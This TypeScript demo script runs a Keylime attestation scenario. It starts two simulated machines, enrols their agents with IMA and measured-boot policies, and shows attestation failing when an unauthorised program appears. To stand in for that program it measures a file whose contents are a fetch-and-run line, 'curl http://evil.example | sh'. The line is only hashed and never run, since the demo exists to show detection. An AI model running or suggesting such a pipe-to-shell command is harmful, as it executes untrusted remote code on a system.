/**
 * @module story: the demo's story, told step by step on the built roles — a swtpm booted from a
 * real UEFI event log, registrar, verifier and agent as real processes, policies from
 * keylime-policy, enrolment with keylime_tenant, a live status table while quotes pass, then a
 * file outside the policy and the failure it causes. Stops everything on exit and on Ctrl-C.
 *
 *   node -r @swc-node/register tools/demo/story.ts      (tools/demo/demo.mjs builds, then runs this)
 */
import fs from 'node:fs';
import path from 'node:path';
import { OPERATIONAL_STATE_NAMES, isOperationalState } from '@keylime/protocol';
import { removeBuiltSnapshot } from '../../apps/e2e/src/processes';
import { startSystem } from '../../apps/e2e/src/system';
import type { AgentStatus, CliResult, KeylimeSystem, Machine } from '../../apps/e2e/src/system';

const QUOTE_INTERVAL = 1;
const tty = process.stdout.isTTY;
const paint = (code: string) => (s: string) => (tty ? `\x1b[${code}m${s}\x1b[0m` : s);
const green = paint('32');
const red = paint('31');
const bold = paint('1');
const dim = paint('2');
const started = Date.now();

function say(text: string): void {
  process.stdout.write(`${bold('→')} ${text}\n`);
}
function ok(text: string): void {
  process.stdout.write(`  ${green('✔')} ${text}\n`);
}
function bad(text: string): void {
  process.stdout.write(`  ${red('✘')} ${text}\n`);
}
/** Something the story expects to go wrong did go wrong. */
function alarm(text: string): void {
  process.stdout.write(`  ${red('!')} ${red(text)}\n`);
}
function secondsSince(t: number): string {
  return `${((Date.now() - t) / 1000).toFixed(1)} s`;
}

function check(result: CliResult, what: string): void {
  if (result.code === 0) return;
  throw new Error(`${what} failed (exit ${result.code}):\n${result.stdout}${result.stderr}`);
}

/** The live status table: a header and one row per machine, redrawn in place on a terminal. */
class StatusTable {
  private drawn = 0;
  private previous: string[] = [];

  constructor(private readonly machines: readonly Machine[]) {}

  async refresh(): Promise<Map<Machine, AgentStatus | undefined>> {
    const statuses = new Map<Machine, AgentStatus | undefined>();
    for (const m of this.machines) statuses.set(m, await m.status());
    const header = [
      'machine'.padEnd(8),
      'agent'.padEnd(13),
      'state'.padEnd(13),
      'status'.padEnd(7),
      'quotes'.padStart(6),
      'last quote'.padStart(10),
      'IMA'.padStart(4),
      'last event',
    ].join('  ');
    const rows = this.machines.map((m) => {
      const s = statuses.get(m);
      const age =
        s === undefined || s.last_received_quote === 0
          ? '–'
          : `${Math.max(0, Date.now() / 1000 - s.last_received_quote).toFixed(0)} s ago`;
      const row = [
        m.name.padEnd(8),
        `${m.agentId.slice(0, 8)}…${m.agentId.slice(-3)}`.padEnd(13),
        (s === undefined
          ? 'not enrolled'
          : isOperationalState(s.operational_state)
            ? OPERATIONAL_STATE_NAMES[s.operational_state]
            : '?'
        ).padEnd(13),
        (s?.attestation_status ?? '–').padEnd(7),
        String(s?.attestation_count ?? 0).padStart(6),
        age.padStart(10),
        String(m.ima.entries).padStart(4),
        s?.last_event_id ?? '–',
      ].join('  ');
      return s?.attestation_status === 'FAIL' ? red(row) : green(row);
    });
    if (tty) {
      // Move up over the previous drawing and rewrite it.
      if (this.drawn > 0) process.stdout.write(`\x1b[${this.drawn}A`);
      for (const line of [dim(header), ...rows]) process.stdout.write(`\x1b[2K    ${line}\n`);
      this.drawn = rows.length + 1;
    } else {
      // Without a terminal: the header once per table, then each row whenever it changed
      // (ignoring the "s ago" clock).
      if (this.drawn === 0) process.stdout.write(`    ${header}\n`);
      this.drawn = 1;
      rows.forEach((row, i) => {
        const key = row.replace(/\d+ s ago/g, '');
        if (this.previous[i] !== key) process.stdout.write(`    ${row}\n`);
        this.previous[i] = key;
      });
    }
    return statuses;
  }

  /** Ends the table so the next output starts below it. */
  close(): void {
    this.drawn = 0;
    this.previous = [];
  }
}

async function watch(
  table: StatusTable,
  until: (statuses: Map<Machine, AgentStatus | undefined>) => boolean,
  timeoutMs: number,
): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    if (until(await table.refresh())) break;
    if (Date.now() > deadline) throw new Error(`no change within ${timeoutMs / 1000} s`);
    await new Promise((r) => setTimeout(r, 250));
  }
  table.close();
}

let system: KeylimeSystem | undefined;
let stopping: Promise<void> | undefined;

function cleanup(): Promise<void> {
  stopping ??= (async () => {
    if (system === undefined) {
      removeBuiltSnapshot();
      return;
    }
    say('Stopping the agents, verifier, registrar and swtpms; removing the work directory');
    await system.stop();
    removeBuiltSnapshot();
    ok('nothing left running');
  })();
  return stopping;
}

const PROGRAMS: Readonly<Record<string, string>> = {
  '/usr/lib/systemd/systemd': 'systemd 256\n',
  '/usr/bin/bash': 'GNU bash 5.2\n',
  '/usr/sbin/sshd': 'OpenSSH 9.6\n',
};

async function story(): Promise<void> {
  say(
    'Two machines, each a software TPM "booted" from a real UEFI event log (RHEL 9.5, Secure Boot)',
  );
  const t0 = Date.now();
  const sys = await startSystem({
    quoteInterval: QUOTE_INTERVAL,
    onProgress: (text) => process.stdout.write(`  ${dim(`· ${text}`)}\n`),
    machines: [
      { name: 'web', agentId: 'd432fbb3-d2f1-4a97-9ef7-75bd81c0de01' },
      { name: 'db', agentId: 'd432fbb3-d2f1-4a97-9ef7-75bd81c0de02' },
    ],
  });
  system = sys;
  const [web, db] = sys.machines as [Machine, Machine];
  ok(
    `2 swtpms, the verifier and the registrar up in ${secondsSince(t0)} (all state in ${sys.ws.dir})`,
  );

  say('The machines run some programs; IMA measures each one into PCR 10');
  for (const m of sys.machines)
    for (const [file, contents] of Object.entries(PROGRAMS))
      await m.ima.measureFile(file, contents);
  ok(`${web.ima.entries} IMA entries per machine: boot_aggregate, systemd, bash, sshd`);

  say('Starting the agents: each registers its EK and AK and activates them with the registrar');
  const t1 = Date.now();
  await Promise.all(sys.machines.map((m) => m.startAgent()));
  ok(`both agents registered (EK certificates checked) and activated in ${secondsSince(t1)}`);

  say(
    'keylime-policy: a runtime policy from the IMA log, a measured-boot policy from the event log',
  );
  const dir = path.join(sys.ws.dir, 'operator');
  fs.mkdirSync(dir);
  const runtime = path.join(dir, 'runtime-policy.json');
  const mb = path.join(dir, 'mb-refstate.json');
  check(
    await sys.policy(['create', 'runtime', '-m', web.ima.file, '-o', runtime]),
    'keylime-policy',
  );
  check(
    await sys.policy(['create', 'measured-boot', '-e', web.eventLog, '-o', mb]),
    'keylime-policy',
  );
  const paths = Object.keys(
    (JSON.parse(fs.readFileSync(runtime, 'utf8')) as { digests: object }).digests,
  ).length;
  ok(
    `the runtime policy allows ${paths} digests; the measured-boot policy pins firmware, Secure Boot keys and boot loader`,
  );

  say(
    'keylime_tenant -c add: enrol each agent with both policies and a payload that unlocks only on success',
  );
  const include = path.join(dir, 'include');
  fs.mkdirSync(include);
  fs.writeFileSync(path.join(include, 'autorun.sh'), '#!/bin/sh\necho unlocked > autorun.ran\n');
  // Run by an agent when it receives a revocation notification that verifies.
  fs.writeFileSync(
    path.join(include, 'record_revocation.sh'),
    '#!/bin/sh\ncp "$1" "$(dirname "$0")/revocation.json"\n',
  );
  fs.writeFileSync(path.join(include, 'action_list'), 'record_revocation.sh\n');
  const t2 = Date.now();
  for (const m of sys.machines) {
    check(
      await sys.tenant([
        '-c',
        'add',
        '-u',
        m.agentId,
        '--runtime-policy',
        runtime,
        '--mb-policy',
        mb,
        '--cert',
        'default',
        '--include',
        include,
        '--verify',
      ]),
      'keylime_tenant -c add',
    );
  }
  ok(
    `both enrolled, identity quotes checked, payload keys verified (--verify) in ${secondsSince(t2)}`,
  );

  say(`Attesting: the verifier asks each agent for a quote every ${QUOTE_INTERVAL} s`);
  const table = new StatusTable(sys.machines);
  await watch(
    table,
    (all) =>
      [...all.values()].some((s) => s?.attestation_status === 'FAIL') ||
      [...all.values()].every((s) => (s?.attestation_count ?? 0) >= 5),
    30_000,
  );
  const good = await web.status();
  if (good?.attestation_status !== 'PASS') throw new Error('the agents did not attest');
  ok(
    `quotes verified: TPM signature, PCRs, the IMA log against its policy, the boot log against its policy`,
  );
  for (const m of sys.machines)
    if (fs.existsSync(path.join(m.dir, 'secure', 'unzipped', 'autorun.ran')))
      ok(`${m.name}: the payload unlocked and its autorun.sh ran`);

  say(`Someone runs a program on ${web.name} that its policy does not allow: /tmp/evil.sh`);
  const t3 = Date.now();
  await web.ima.measureFile('/tmp/evil.sh', 'curl http://evil.example | sh\n');
  await watch(table, (all) => all.get(web)?.attestation_status === 'FAIL', 15_000);
  const failed = await web.status();
  alarm(
    `${web.name} failed attestation ${secondsSince(t3)} later: ${failed?.last_event_id ?? '?'}`,
  );
  const reason = /File not found in allowlist: [^"\s}]+/.exec(sys.verifier.output());
  if (reason !== null) ok(`the verifier says: "${reason[0]}" and stops trusting ${web.name}`);
  const notice = path.join(db.dir, 'secure', 'unzipped', 'revocation.json');
  const deadline = Date.now() + 5000;
  while (!fs.existsSync(notice) && Date.now() < deadline)
    await new Promise((r) => setTimeout(r, 100));
  if (fs.existsSync(notice))
    ok(
      `${db.name}'s agent received the signed revocation for ${web.name}, checked its signature and ran its action`,
    );
  else throw new Error(`${db.name}'s agent did not act on a revocation notification`);
  ok(`${db.name} is still trusted: ${(await db.status())?.attestation_status ?? '?'}`);
}

process.on('SIGINT', () => {
  process.stdout.write('\ninterrupted\n');
  void cleanup().finally(() => process.exit(130));
});
process.on('SIGTERM', () => {
  void cleanup().finally(() => process.exit(143));
});

story()
  .then(async () => {
    await cleanup();
    process.stdout.write(`${green('done')} in ${secondsSince(started)}\n`);
  })
  .catch(async (e: unknown) => {
    if (stopping !== undefined) return;
    bad(e instanceof Error ? e.message : String(e));
    if (system !== undefined) {
      const tail = system.logs().split('\n').slice(-25).join('\n');
      process.stdout.write(`${dim('last log lines:')}\n${tail}\n`);
    }
    await cleanup();
    process.exitCode = 1;
  });
